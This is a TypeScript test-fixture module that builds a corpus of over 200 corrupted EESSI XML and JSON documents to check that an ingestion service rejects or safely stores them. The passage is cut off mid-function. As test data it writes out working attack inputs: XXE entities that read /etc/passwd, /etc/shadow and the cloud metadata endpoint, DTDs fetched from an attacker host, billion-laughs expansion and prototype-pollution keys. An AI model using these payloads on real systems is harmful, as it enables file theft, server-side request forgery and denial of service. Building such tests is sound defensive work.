/**
 * The hostile corpus (issue #7): 200+ named bad documents, built deterministically from valid
 * ones (the synthetic generator's documents of every kind and the real EESSI samples in
 * test/fixtures/xml) by corrupting them one way each. Every case says what must happen to it:
 * rejected with a stable code (core/errors.ts), or stored (a SQL-injection name is stored
 * verbatim; a formula name is stored and neutralised by the CSV export).
 *
 * Categories: truncated, encoding, bom, deep-nesting, huge-attributes, dtd, external-entity,
 * entity-expansion, namespace, mixed-shape, duplicate-key, prototype-key, date, oversized,
 * injection, control-chars. Kinds: EESSI XML (synthetic and real samples), RINA JSON, NAV JSON,
 * SED events (NAV JSON and XML inside), posting declarations, certificate events.
 *
 * Run with HOSTILE_LIMITS (512 KiB keeps every case under Kafka's default 1 MB message size).
 */
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import type { RejectionCode } from '../../core/errors.js';
import { generateCorpus, type SynthMessage } from '../../core/synth/index.js';

export const HOSTILE_LIMITS = { maxBytes: 512 * 1024, maxDepth: 64 };

export type HostileCategory =
  | 'truncated'
  | 'encoding'
  | 'bom'
  | 'deep-nesting'
  | 'huge-attributes'
  | 'dtd'
  | 'external-entity'
  | 'entity-expansion'
  | 'namespace'
  | 'mixed-shape'
  | 'duplicate-key'
  | 'prototype-key'
  | 'date'
  | 'oversized'
  | 'injection'
  | 'control-chars';

export type HostileTopic = 'sed' | 'declaration' | 'certificate';

export type HostileExpect =
  | { outcome: 'rejected'; code: RejectionCode }
  | {
      outcome: 'stored';
      kind: HostileTopic;
      /** The person's (or first worker's) family name, which must be stored exactly as written. */
      familyName?: string;
    };

export interface HostileCase {
  /** Unique: `<category>/<base>/<variant>`. */
  name: string;
  category: HostileCategory;
  /** Which valid document it was made from. */
  base: BaseId;
  topic: HostileTopic;
  headers: Record<string, string>;
  body: Buffer;
  expect: HostileExpect;
}

type BaseId =
  | 'xml'
  | 'xml-a001-sample'
  | 'xml-a009-sample'
  | 'rina'
  | 'nav'
  | 'event-nav'
  | 'event-xml'
  | 'declaration'
  | 'certificate';

interface Base {
  id: BaseId;
  topic: HostileTopic;
  format: 'xml' | 'json';
  headers: Record<string, string>;
  text: string;
}

type Json = Record<string, unknown>;

const FIXTURES = path.join(path.dirname(new URL(import.meta.url).pathname), '..', 'fixtures', 'xml');

// ---------------------------------------------------------------------------------------------
// Valid starting points.

function synthBases(): Map<BaseId, Base> {
  const out = new Map<BaseId, Base>();
  const want = (m: SynthMessage): BaseId | null => {
    if (m.expect.kind !== 'valid') return null;
    if (m.topic === 'declaration') return 'declaration';
    if (m.topic === 'certificate') return m.value.includes('"issueType":"initial"') ? 'certificate' : null;
    if (m.source?.sedType !== 'A009') return null;
    if (m.wrapped) return m.shape === 'nav' ? 'event-nav' : m.shape === 'xml' ? 'event-xml' : null;
    return m.shape === 'xml' ? 'xml' : m.shape === 'rina' ? 'rina' : m.shape === 'nav' ? 'nav' : null;
  };
  for (const m of generateCorpus({ seed: 7, seds: 400, declarations: 10, certificates: 10, eventRate: 0.3, duplicateRate: 0, newVersionRate: 0, badRate: 0 })) {
    const id = want(m);
    if (id === null || out.has(id)) continue;
    out.set(id, { id, topic: m.topic, format: id === 'xml' ? 'xml' : 'json', headers: m.headers, text: m.value.trim() });
  }
  const missing = (['xml', 'rina', 'nav', 'event-nav', 'event-xml', 'declaration', 'certificate'] as const).filter((b) => !out.has(b));
  if (missing.length > 0) throw new Error(`synthetic corpus lacks ${missing.join(', ')}`);
  return out;
}

function sampleBase(id: 'xml-a001-sample' | 'xml-a009-sample', file: string, sedType: string): Base {
  const text = fs.readFileSync(path.join(FIXTURES, file), 'utf8').trim();
  const headers = { rinaSakId: '1000001', rinaDokumentId: hex(id, 32), rinaDokumentVersjon: '1', sedType, avsenderId: 'NO:NAVAT07', mottakerId: 'FR:URSSAF01' };
  return { id, topic: 'sed', format: 'xml', headers, text };
}

function loadBases(): Map<BaseId, Base> {
  const m = synthBases();
  m.set('xml-a001-sample', sampleBase('xml-a001-sample', 'A001-cdm4.4-nav-sedA001.xml', 'A001'));
  m.set('xml-a009-sample', sampleBase('xml-a009-sample', 'A009-cdm4.4-nav-sedA009.xml', 'A009'));
  return m;
}

// ---------------------------------------------------------------------------------------------
// Small tools.

function hex(seed: string, n: number): string {
  return createHash('sha256').update(seed).digest('hex').slice(0, n);
}

function utf8(s: string): Buffer {
  return Buffer.from(s, 'utf8');
}

function parse(b: Base): Json {
  return JSON.parse(b.text) as Json;
}

/** A JSON object at `keys` below `o` (throws when the base lacks it: the corpus must stay meaningful). */
function at(o: Json, keys: readonly (string | number)[]): Json {
  let cur: unknown = o;
  for (const k of keys) {
    cur = (cur as Record<string | number, unknown>)[k];
    if (typeof cur !== 'object' || cur === null) throw new Error(`hostile corpus: no object at ${keys.join('.')}`);
  }
  return cur as Json;
}

const MARK = '__hostile_marker__';

/** JSON text of `o` with raw JSON `raw` (e.g. `"a":1,"a":2`) spliced in as members of the object at `keys`. */
function withRawMembers(o: Json, keys: readonly (string | number)[], raw: string): string {
  const copy = structuredClone(o);
  at(copy, keys)[MARK] = 0;
  const text = JSON.stringify(copy);
  const needle = `"${MARK}":0`;
  if (!text.includes(needle)) throw new Error('hostile corpus: marker lost');
  return text.replace(needle, raw);
}

function edit(o: Json, f: (copy: Json) => void): Json {
  const copy = structuredClone(o);
  f(copy);
  return copy;
}

/** Replace the text of the first `<name>` element (any prefix) of an XML document. */
function xmlText(xml: string, element: string, value: string): string {
  const re = new RegExp(`(<(?:[\\w]+:)?${element}>)([^<]*)(</(?:[\\w]+:)?${element}>)`);
  if (!re.test(xml)) throw new Error(`hostile corpus: no <${element}> to replace`);
  return xml.replace(re, (_m, open: string, _old: string, close: string) => `${open}${value}${close}`);
}

function escapeXml(s: string): string {
  return s.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
}

/** Insert `fragment` right after the root element's start tag. */
function xmlInsideRoot(xml: string, fragment: string): string {
  const m = /<(?!\?|!)[^>]*>/.exec(xml.replace(/<!--[\s\S]*?-->/g, (c) => ' '.repeat(c.length)));
  if (!m) throw new Error('hostile corpus: no root start tag');
  const end = m.index + m[0].length;
  return xml.slice(0, end) + fragment + xml.slice(end);
}

/** Insert `fragment` before the root element (after the XML declaration, if any). */
function xmlBeforeRoot(xml: string, fragment: string): string {
  const m = /^<\?xml[^>]*\?>/.exec(xml);
  return m ? xml.slice(0, m[0].length) + fragment + xml.slice(m[0].length) : fragment + xml;
}

function nestedJson(depth: number, open: '{' | '[' = '{'): string {
  return open === '{' ? '{"a":'.repeat(depth) + '1' + '}'.repeat(depth) : '['.repeat(depth) + '1' + ']'.repeat(depth);
}

// ---------------------------------------------------------------------------------------------
// Where each JSON kind keeps the things we corrupt.

interface JsonPlaces {
  /** Object holding the person's family name, and that key. */
  person: readonly (string | number)[];
  familyNameKey: string;
  birthDateKey: string;
  /** Object whose unknown keys the reader ignores (for nesting and size cases that must not be refused for content). */
  free: readonly (string | number)[];
  /** Some other mandatory date (period start / startDate / issuedAt): object and key. */
  otherDate: readonly [readonly (string | number)[], string];
  /** A field the reader limits to 500 characters or less: object and key. */
  limited: readonly [readonly (string | number)[], string];
}

const PLACES: Record<'rina' | 'nav' | 'declaration' | 'certificate', JsonPlaces> = {
  rina: {
    person: ['A009', 'Person', 'PersonIdentification'],
    familyNameKey: 'familyName',
    birthDateKey: 'dateBirth',
    free: ['A009'],
    otherDate: [['A009', 'DecisionLegislationApplicable', 'PeriodForWhichDecisionApplies', 'FixedPeriod'], 'startDate'],
    limited: [['A009', 'Person', 'PersonIdentification'], 'forename'],
  },
  nav: {
    person: ['nav', 'bruker', 'person'],
    familyNameKey: 'etternavn',
    birthDateKey: 'foedselsdato',
    free: ['nav'],
    otherDate: [['medlemskap', 'vedtak', 'gjelderperiode', 'fastperiode'], 'startdato'],
    limited: [['nav', 'bruker', 'person'], 'fornavn'],
  },
  declaration: {
    person: ['workers', 0],
    familyNameKey: 'familyName',
    birthDateKey: 'birthDate',
    free: [],
    otherDate: [[], 'startDate'],
    limited: [['postingUndertaking'], 'name'],
  },
  certificate: {
    person: ['person'],
    familyNameKey: 'familyName',
    birthDateKey: 'birthDate',
    free: [],
    otherDate: [[], 'issuedAt'],
    limited: [['employer'], 'name'],
  },
};

// ---------------------------------------------------------------------------------------------
// The corpus.

class Builder {
  readonly cases: HostileCase[] = [];
  constructor(readonly bases: Map<BaseId, Base>) {}

  base(id: BaseId): Base {
    const b = this.bases.get(id);
    if (!b) throw new Error(`no base ${id}`);
    return b;
  }

  reject(category: HostileCategory, base: BaseId, variant: string, body: Buffer | string, code: RejectionCode, headers?: Record<string, string>): void {
    const b = this.base(base);
    this.cases.push({
      name: `${category}/${base}/${variant}`,
      category,
      base,
      topic: b.topic,
      headers: headers ?? b.headers,
      body: typeof body === 'string' ? utf8(body) : body,
      expect: { outcome: 'rejected', code },
    });
  }

  /**
   * A case that must be stored. It gets its own document identity (SED document id, declaration id,
   * certificate number) so that stored cases never collide with each other in the database.
   */
  store(category: HostileCategory, base: BaseId, variant: string, make: (b: Base, uid: string) => Buffer | string, familyName?: string): void {
    const b = this.base(base);
    const name = `${category}/${base}/${variant}`;
    const uid = hex(name, 32);
    const body = make(b, uid);
    const headers = b.topic === 'sed' && b.headers['rinaDokumentId'] !== undefined ? { ...b.headers, rinaDokumentId: uid } : b.headers;
    this.cases.push({
      name,
      category,
      base,
      topic: b.topic,
      headers,
      body: typeof body === 'string' ? utf8(body) : body,
      expect: familyName === undefined ? { outcome: 'stored', kind: b.topic } : { outcome: 'stored', kind: b.topic, familyName },
    });
  }
}

/** Give a JSON document of a base its own identity (see Builder.store). */
function ownIdentity(b: Base, o: Json, uid: string): Json {
  if (b.id === 'declaration') o['declarationId'] = `HOSTILE-${uid}`;
  if (b.id === 'certificate') o['certificateNumber'] = `HOSTILE-${uid}`;
  if (b.id === 'event-nav' || b.id === 'event-xml') {
    const h = o['sedHendelse'] as Json;
    h['rinaDokumentId'] = uid;
    h['sedId'] = `${uid}_1`;
  }
  return o;
}

const JSON_BASES = ['rina', 'nav', 'event-nav', 'declaration', 'certificate'] as const;
const XML_BASES = ['xml', 'xml-a001-sample', 'xml-a009-sample'] as const;
const PERSON_BASES = ['rina', 'nav', 'declaration', 'certificate'] as const;

function truncated(c: Builder): void {
  for (const id of [...XML_BASES, ...JSON_BASES, 'event-xml'] as const) {
    const b = c.base(id);
    const code = b.format === 'xml' ? 'XML_MALFORMED' : 'JSON_MALFORMED';
    for (const frac of [0.1, 0.5, 0.9]) c.reject('truncated', id, `at-${frac * 100}pct`, b.text.slice(0, Math.floor(b.text.length * frac)), code);
    c.reject('truncated', id, 'last-char-missing', b.text.slice(0, -1), code);
  }
  // Cut in the middle of a multi-byte character: the bytes are no longer UTF-8.
  for (const id of ['xml', 'rina'] as const) {
    const bytes = utf8(c.base(id).text);
    let cut = -1;
    for (let i = bytes.length - 1; i > 0; i--) if (bytes[i]! >= 0xc0) { cut = i + 1; break; }
    c.reject('truncated', id, 'mid-utf8-sequence', bytes.subarray(0, cut), 'ENCODING_INVALID');
  }
}

function encodings(c: Builder): void {
  const withUmlaut = (b: Base): string => {
    if (b.format === 'xml') return xmlText(b.text, 'familyName', 'Müller-Lüdenscheidt');
    const places = PLACES[b.id as keyof typeof PLACES];
    return JSON.stringify(edit(parse(b), (o) => { at(o, places.person)[places.familyNameKey] = 'Müller-Lüdenscheidt'; }));
  };
  for (const id of ['xml', 'xml-a009-sample', ...PERSON_BASES] as const) {
    const b = c.base(id);
    const text = withUmlaut(b);
    c.reject('encoding', id, 'latin1-bytes', Buffer.from(text, 'latin1'), 'ENCODING_INVALID');
    c.reject('encoding', id, 'utf16le-with-bom', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]), 'ENCODING_INVALID');
    c.reject('encoding', id, 'utf16le-no-bom', Buffer.from(text, 'utf16le'), 'ENCODING_INVALID');
    const be = Buffer.from(text, 'utf16le');
    be.swap16();
    c.reject('encoding', id, 'utf16be-with-bom', Buffer.concat([Buffer.from([0xfe, 0xff]), be]), 'ENCODING_INVALID');
  }
  for (const id of ['xml', 'nav', 'declaration'] as const) {
    const b = c.base(id);
    const text = b.text;
    // UTF-32 LE: every character on four bytes.
    const u32 = Buffer.alloc(text.length * 4);
    for (let i = 0; i < text.length; i++) u32.writeUInt32LE(text.charCodeAt(i), i * 4);
    c.reject('encoding', id, 'utf32le-no-bom', u32, 'ENCODING_INVALID');
    // Overlong encoding of '/' (0xC0 0xAF) and an encoded surrogate (CESU-8 0xED 0xA0 0x80) in the middle.
    const mid = Math.floor(text.length / 2);
    const ascii = utf8(text.slice(0, mid));
    c.reject('encoding', id, 'overlong-utf8', Buffer.concat([ascii, Buffer.from([0xc0, 0xaf]), utf8(text.slice(mid))]), 'ENCODING_INVALID');
    c.reject('encoding', id, 'cesu8-surrogate', Buffer.concat([ascii, Buffer.from([0xed, 0xa0, 0x80]), utf8(text.slice(mid))]), 'ENCODING_INVALID');
  }
  for (const id of XML_BASES) {
    const b = c.base(id);
    for (const enc of ['ISO-8859-1', 'windows-1252', 'UTF-16', 'EBCDIC-CP-US']) {
      const text = /^<\?xml[^>]*\?>/.test(b.text)
        ? b.text.replace(/^<\?xml[^>]*\?>/, `<?xml version="1.0" encoding="${enc}"?>`)
        : `<?xml version="1.0" encoding="${enc}"?>${b.text}`;
      c.reject('encoding', id, `declared-${enc.toLowerCase()}`, text, 'ENCODING_INVALID');
    }
  }
  // XML declared non-UTF-8 carried inside a SED event.
  const ev = parse(c.base('event-xml'));
  ev['sed'] = String(ev['sed']).replace(/^<\?xml[^>]*\?>/, '<?xml version="1.0" encoding="ISO-8859-1"?>');
  c.reject('encoding', 'event-xml', 'inner-declared-latin1', JSON.stringify(ev), 'ENCODING_INVALID');
}

function boms(c: Builder): void {
  const BOM = Buffer.from([0xef, 0xbb, 0xbf]);
  for (const id of ['xml', 'xml-a001-sample', ...PERSON_BASES, 'event-nav'] as const) {
    // One UTF-8 byte-order mark is tolerated (stripped).
    c.store('bom', id, 'utf8-bom', (b, uid) => {
      const body = b.format === 'json' ? JSON.stringify(ownIdentity(b, parse(b), uid)) : b.text;
      return Buffer.concat([BOM, utf8(body)]);
    });
  }
  for (const id of ['xml', 'nav', 'declaration'] as const) {
    const b = c.base(id);
    // Two marks: the second is a character (U+FEFF) before the document, which is then neither XML nor JSON.
    c.reject('bom', id, 'double-utf8-bom', Buffer.concat([BOM, BOM, utf8(b.text)]), 'SHAPE_UNKNOWN');
    c.reject('bom', id, 'utf32le-bom', Buffer.concat([Buffer.from([0xff, 0xfe, 0x00, 0x00]), utf8(b.text)]), 'ENCODING_INVALID');
    c.reject('bom', id, 'utf16be-bom-then-utf8', Buffer.concat([Buffer.from([0xfe, 0xff]), utf8(b.text)]), 'ENCODING_INVALID');
  }
}

function deepNesting(c: Builder): void {
  for (const id of ['rina', 'nav', 'declaration', 'certificate'] as const) {
    const b = c.base(id);
    const places = PLACES[id];
    const doc = parse(b);
    for (const depth of [70, 1_000, 50_000]) {
      c.reject('deep-nesting', id, `objects-${depth}`, withRawMembers(doc, places.free, `"deep":${nestedJson(depth)}`), 'TOO_DEEP');
      c.reject('deep-nesting', id, `arrays-${depth}`, withRawMembers(doc, places.free, `"deep":${nestedJson(depth, '[')}`), 'TOO_DEEP');
    }
  }
  // A SED event whose `sed` is a JSON string holding a deep document.
  const ev = parse(c.base('event-nav'));
  c.reject('deep-nesting', 'event-nav', 'double-encoded-deep', JSON.stringify({ sedHendelse: ev['sedHendelse'], sed: `{"sed":"A009","nav":${nestedJson(200)}}` }), 'TOO_DEEP');
  // Nested just inside the limit in a field the reader ignores: stored.
  for (const id of ['nav', 'declaration', 'certificate'] as const) {
    const places = PLACES[id];
    const outer = places.free.length + 1; // containers from the top down to the free object
    c.store('deep-nesting', id, 'at-the-limit', (b, uid) => withRawMembers(ownIdentity(b, parse(b), uid), places.free, `"deep":${nestedJson(HOSTILE_LIMITS.maxDepth - outer)}`));
  }
  for (const id of XML_BASES) {
    const b = c.base(id);
    for (const depth of [70, 5_000, 50_000]) {
      c.reject('deep-nesting', id, `elements-${depth}`, xmlInsideRoot(b.text, '<a>'.repeat(depth) + '</a>'.repeat(depth)), 'TOO_DEEP');
    }
    // Unclosed deep nesting: too deep before it is malformed.
    c.reject('deep-nesting', id, 'unclosed-10000', xmlInsideRoot(b.text, '<a>'.repeat(10_000)), 'TOO_DEEP');
  }
}

function hugeAttributes(c: Builder): void {
  for (const id of XML_BASES) {
    // Attributes carry nothing we read: a large one within the size limit is stored.
    c.store('huge-attributes', id, 'attribute-300k', (b) => b.text.replace(/<Person>/, `<Person note="${'x'.repeat(300_000)}">`));
    c.store('huge-attributes', id, '5000-attributes', (b) => b.text.replace(/<Person>/, `<Person ${Array.from({ length: 5_000 }, (_, i) => `a${i}="${i}"`).join(' ')}>`));
    const b = c.base(id);
    c.reject('huge-attributes', id, 'attribute-over-size-limit', b.text.replace(/<Person>/, `<Person note="${'x'.repeat(600_000)}">`), 'TOO_LARGE');
    c.reject('huge-attributes', id, 'duplicate-attribute', b.text.replace(/<Person>/, '<Person a="1" a="2">'), 'XML_MALFORMED');
    c.reject('huge-attributes', id, 'unquoted-attribute', b.text.replace(/<Person>/, '<Person a=1>'), 'XML_MALFORMED');
    // Leniency, harmless: fast-xml-parser's validator accepts `<` in an attribute value (XML 1.0 does
    // not); attributes are dropped before anything is read, so the value goes nowhere.
    c.store('huge-attributes', id, 'lt-in-attribute', (bb) => bb.text.replace(/<Person>/, '<Person a="<x>">'));
    c.reject('huge-attributes', id, 'unterminated-attribute', b.text.replace(/<Person>/, `<Person a="${'y'.repeat(100_000)}>`), 'XML_MALFORMED');
  }
}

function dtds(c: Builder): void {
  const variants: Array<[string, (root: string) => string]> = [
    ['internal-subset', (r) => `<!DOCTYPE ${r} [<!ELEMENT ${r} ANY>]>`],
    ['system-dtd', (r) => `<!DOCTYPE ${r} SYSTEM "http://attacker.example/sed.dtd">`],
    ['public-dtd', (r) => `<!DOCTYPE ${r} PUBLIC "-//EVIL//DTD SED//EN" "http://attacker.example/sed.dtd">`],
    ['lower-case', (r) => `<!doctype ${r}>`],
    ['attlist-default', (r) => `<!DOCTYPE ${r} [<!ATTLIST ${r} injected CDATA "yes"><!ENTITY e "v">]>`],
  ];
  for (const id of XML_BASES) {
    const b = c.base(id);
    const root = /<((?:\w+:)?A\d{3})\b/.exec(b.text)?.[1] ?? 'A009';
    for (const [name, dtd] of variants) c.reject('dtd', id, name, xmlBeforeRoot(b.text, dtd(root)), 'XML_DTD_FORBIDDEN');
  }
  c.reject('dtd', 'xml', 'entity-inside-root', xmlInsideRoot(c.base('xml').text, '<!ENTITY x "y">'), 'XML_DTD_FORBIDDEN');
  const ev = parse(c.base('event-xml'));
  ev['sed'] = xmlBeforeRoot(String(ev['sed']), '<!DOCTYPE A009 SYSTEM "http://attacker.example/x.dtd">');
  c.reject('dtd', 'event-xml', 'inner-doctype', JSON.stringify(ev), 'XML_DTD_FORBIDDEN');
}

function externalEntities(c: Builder): void {
  const targets = ['file:///etc/passwd', 'http://169.254.169.254/latest/meta-data/', 'expect://id', 'php://filter/resource=/etc/hosts'];
  for (const id of XML_BASES) {
    const b = c.base(id);
    targets.forEach((t, i) => {
      const doc = xmlText(xmlBeforeRoot(b.text, `<!DOCTYPE r [<!ENTITY xxe SYSTEM "${t}">]>`), 'familyName', '&xxe;');
      c.reject('external-entity', id, `system-entity-${i}`, doc, 'XML_DTD_FORBIDDEN');
    });
    c.reject('external-entity', id, 'parameter-entity', xmlBeforeRoot(b.text, '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'), 'XML_DTD_FORBIDDEN');
    // An entity reference with no declaration at all is simply malformed.
    c.reject('external-entity', id, 'undeclared-reference', xmlText(b.text, 'familyName', '&xxe;'), 'XML_MALFORMED');
    // XInclude is not processed: the element is foreign content, ignored; the document is stored.
    c.store('external-entity', id, 'xinclude-ignored', (bb) =>
      xmlInsideRoot(bb.text, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'),
    );
  }
  const ev = parse(c.base('event-xml'));
  ev['sed'] = xmlText(xmlBeforeRoot(String(ev['sed']), '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/shadow">]>'), 'familyName', '&xxe;');
  c.reject('external-entity', 'event-xml', 'inner-system-entity', JSON.stringify(ev), 'XML_DTD_FORBIDDEN');
}

function entityExpansion(c: Builder): void {
  const laughs = (levels: number): string => {
    let dtd = '<!ENTITY l0 "lol">';
    for (let i = 1; i <= levels; i++) dtd += `<!ENTITY l${i} "${`&l${i - 1};`.repeat(10)}">`;
    return `<!DOCTYPE r [${dtd}]>`;
  };
  for (const id of XML_BASES) {
    const b = c.base(id);
    c.reject('entity-expansion', id, 'billion-laughs', xmlText(xmlBeforeRoot(b.text, laughs(9)), 'familyName', '&l9;'), 'XML_DTD_FORBIDDEN');
    c.reject('entity-expansion', id, 'quadratic-blowup', xmlText(xmlBeforeRoot(b.text, `<!DOCTYPE r [<!ENTITY a "${'x'.repeat(20_000)}">]>`), 'familyName', '&a;'.repeat(10_000)), 'XML_DTD_FORBIDDEN');
    // Character references are decoded once, never re-expanded: `&#38;lt;` is the text "&lt;".
    c.store('entity-expansion', id, 'reference-to-ampersand', (bb) => xmlText(bb.text, 'forename', '&#38;lt;Jan&#38;gt;'));
    // Many predefined entities and character references: decoded in one pass, stored.
    c.store('entity-expansion', id, '20000-char-refs', (bb) => xmlInsideRoot(bb.text, `<Ignored>${'&#x41;&amp;'.repeat(10_000)}</Ignored>`));
    c.reject('entity-expansion', id, 'ref-to-nul', xmlText(b.text, 'forename', 'a&#0;b'), 'XML_MALFORMED');
    c.reject('entity-expansion', id, 'ref-beyond-unicode', xmlText(b.text, 'forename', '&#x110000;'), 'XML_MALFORMED');
    c.reject('entity-expansion', id, 'html-entity', xmlText(b.text, 'forename', 'Jos&eacute;'), 'XML_MALFORMED');
  }
}

function namespaces(c: Builder): void {
  for (const id of XML_BASES) {
    const b = c.base(id);
    const ns = /xmlns(?::\w+)?="(http:\/\/ec\.europa\.eu\/eessi\/ns\/\d+_\d+\/\w+)"/.exec(b.text)?.[1];
    if (ns === undefined) throw new Error(`hostile corpus: ${id} has no EESSI namespace`);
    const sed = ns.slice(ns.lastIndexOf('/') + 1);
    const swap = (to: string): string => b.text.replace(`"${ns}"`, `"${to}"`);
    c.reject('namespace', id, 'foreign', swap('http://attacker.example/ns/A009'), 'XML_NAMESPACE_UNKNOWN');
    c.reject('namespace', id, 'cdm-3', swap(ns.replace(/\/\d+_\d+\//, '/3_2/')), 'XML_NAMESPACE_UNKNOWN');
    c.reject('namespace', id, 'cdm-5', swap(ns.replace(/\/\d+_\d+\//, '/5_0/')), 'XML_NAMESPACE_UNKNOWN');
    c.reject('namespace', id, 'other-sed-type', swap(ns.replace(/\/\w+$/, sed === 'A001' ? '/A009' : '/A001')), 'XML_NAMESPACE_UNKNOWN');
    c.reject('namespace', id, 'https-scheme', swap(ns.replace('http:', 'https:')), 'XML_NAMESPACE_UNKNOWN');
    c.reject('namespace', id, 'trailing-slash', swap(`${ns}/`), 'XML_NAMESPACE_UNKNOWN');
    c.reject('namespace', id, 'empty', swap(''), 'XML_NAMESPACE_UNKNOWN');
    c.reject('namespace', id, 'declaration-removed', b.text.replace(/\s+xmlns(?::\w+)?="[^"]*"/, ''), 'XML_NAMESPACE_UNKNOWN');
  }
}

function mixedShapes(c: Builder): void {
  const nav = parse(c.base('nav'));
  const rina = parse(c.base('rina'));
  const decl = parse(c.base('declaration'));
  const cert = parse(c.base('certificate'));
  const ev = parse(c.base('event-nav'));
  const xml = c.base('xml').text;
  c.reject('mixed-shape', 'nav', 'nav-and-rina', JSON.stringify({ ...nav, ...rina }), 'SHAPE_UNKNOWN');
  c.reject('mixed-shape', 'declaration', 'declaration-and-certificate', JSON.stringify({ ...decl, ...cert }), 'SHAPE_UNKNOWN');
  c.reject('mixed-shape', 'nav', 'nav-and-declaration', JSON.stringify({ ...nav, declarationId: 'D-1' }), 'SHAPE_UNKNOWN');
  c.reject('mixed-shape', 'event-nav', 'event-and-certificate', JSON.stringify({ ...ev, certificateNumber: 'C-1' }), 'SHAPE_UNKNOWN');
  c.reject('mixed-shape', 'rina', 'two-sed-type-keys', JSON.stringify({ ...rina, A003: rina['A009'] }), 'SHAPE_UNKNOWN');
  c.reject('mixed-shape', 'rina', 'sed-key-holds-array', JSON.stringify({ A009: [rina['A009']] }), 'SHAPE_UNKNOWN');
  c.reject('mixed-shape', 'nav', 'array-of-documents', JSON.stringify([nav, nav]), 'SHAPE_UNKNOWN');
  c.reject('mixed-shape', 'declaration', 'ndjson-two-documents', `${JSON.stringify(decl)}\n${JSON.stringify(decl)}`, 'JSON_MALFORMED');
  c.reject('mixed-shape', 'xml', 'xml-then-json', `${xml}\n${JSON.stringify(nav)}`, 'XML_MALFORMED');
  c.reject('mixed-shape', 'nav', 'json-then-xml', `${JSON.stringify(nav)}\n${xml}`, 'JSON_MALFORMED');
  c.reject('mixed-shape', 'event-nav', 'sed-is-number', JSON.stringify({ sedHendelse: ev['sedHendelse'], sed: 42 }), 'SHAPE_UNKNOWN');
  c.reject('mixed-shape', 'event-nav', 'sed-is-plain-text', JSON.stringify({ sedHendelse: ev['sedHendelse'], sed: 'hello' }), 'SHAPE_UNKNOWN');
  c.reject('mixed-shape', 'event-nav', 'sedHendelse-is-array', JSON.stringify({ sedHendelse: [ev['sedHendelse']], sed: ev['sed'] }), 'SHAPE_UNKNOWN');
  c.reject('mixed-shape', 'event-nav', 'sed-missing', JSON.stringify({ sedHendelse: ev['sedHendelse'] }), 'FIELD_MISSING');
  c.reject('mixed-shape', 'event-nav', 'event-in-event', JSON.stringify({ sedHendelse: ev['sedHendelse'], sed: ev }), 'SHAPE_UNKNOWN');
  c.reject('mixed-shape', 'event-nav', 'sed-is-rina-and-nav', JSON.stringify({ sedHendelse: ev['sedHendelse'], sed: { ...nav, ...rina } }), 'SHAPE_UNKNOWN');
  c.reject('mixed-shape', 'nav', 'nav-is-string', JSON.stringify({ ...nav, nav: 'person' }), 'SHAPE_UNKNOWN');
  c.reject('mixed-shape', 'declaration', 'workers-is-object', JSON.stringify({ ...decl, workers: (decl['workers'] as unknown[])[0] }), 'SHAPE_UNKNOWN');
  c.reject('mixed-shape', 'certificate', 'person-is-array', JSON.stringify({ ...cert, person: [cert['person']] }), 'SHAPE_UNKNOWN');
  c.reject('mixed-shape', 'declaration', 'version-is-object', JSON.stringify({ ...decl, version: { n: 1 } }), 'SHAPE_UNKNOWN');
  c.reject('mixed-shape', 'xml', 'html-page', '<html><body><h1>502 Bad Gateway</h1></body></html>', 'XML_NAMESPACE_UNKNOWN');
  c.reject('mixed-shape', 'xml', 'soap-envelope', `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>${xml.replace(/^<\?xml[^>]*\?>/, '')}</soap:Body></soap:Envelope>`, 'XML_NAMESPACE_UNKNOWN');
  c.reject('mixed-shape', 'nav', 'yaml', 'sed: A009\nnav:\n  bruker: {}\n', 'SHAPE_UNKNOWN');
  c.reject('mixed-shape', 'nav', 'csv', 'sed,familyName\nA009,Nordmann\n', 'SHAPE_UNKNOWN');
}

function duplicateKeys(c: Builder): void {
  for (const id of PERSON_BASES) {
    const b = c.base(id);
    const places = PLACES[id];
    const doc = parse(b);
    const first = Object.keys(doc)[0] ?? 'x';
    c.reject('duplicate-key', id, 'top-level', JSON.stringify(doc).replace('{', `{${JSON.stringify(first)}:null,`), 'JSON_DUPLICATE_KEY');
    c.reject('duplicate-key', id, 'family-name-twice', withRawMembers(doc, places.person, `"${places.familyNameKey}":"Impostor"`), 'JSON_DUPLICATE_KEY');
    const escaped = places.familyNameKey.replace(/^(.)/, (ch) => `\\u${ch.charCodeAt(0).toString(16).padStart(4, '0')}`);
    c.reject('duplicate-key', id, 'escaped-twin', withRawMembers(doc, places.person, `"${escaped}":"Impostor"`), 'JSON_DUPLICATE_KEY');
    const many = Array.from({ length: 40 }, (_, i) => `"k${i}":${i}`).join(',');
    c.reject('duplicate-key', id, 'in-a-big-object', withRawMembers(doc, places.free, `"big":{${many},"k7":0}`), 'JSON_DUPLICATE_KEY');
  }
  const ev = c.base('event-nav').text;
  c.reject('duplicate-key', 'event-nav', 'sedHendelse-twice', ev.replace('{"sedHendelse":', '{"sedHendelse":{},"sedHendelse":'), 'JSON_DUPLICATE_KEY');
  const evObj = parse(c.base('event-nav'));
  c.reject('duplicate-key', 'event-nav', 'in-double-encoded-sed', JSON.stringify({ sedHendelse: evObj['sedHendelse'], sed: JSON.stringify(evObj['sed']).replace('{', '{"sed":"A003",') }), 'JSON_DUPLICATE_KEY');
}

function prototypeKeys(c: Builder): void {
  const raws: Array<[string, string]> = [
    ['__proto__', '"__proto__":{"isAdmin":true}'],
    ['constructor', '"constructor":{"prototype":{"isAdmin":true}}'],
    ['prototype', '"prototype":{"isAdmin":true}'],
    ['escaped-__proto__', '"\\u005f_proto__":{"isAdmin":true}'],
  ];
  for (const id of PERSON_BASES) {
    const b = c.base(id);
    const places = PLACES[id];
    const doc = parse(b);
    for (const [name, raw] of raws) {
      const where = name === '__proto__' || name === 'escaped-__proto__' ? places.person : places.free;
      c.reject('prototype-key', id, name, withRawMembers(doc, where, raw), 'JSON_FORBIDDEN_KEY');
    }
  }
  const ev = parse(c.base('event-nav'));
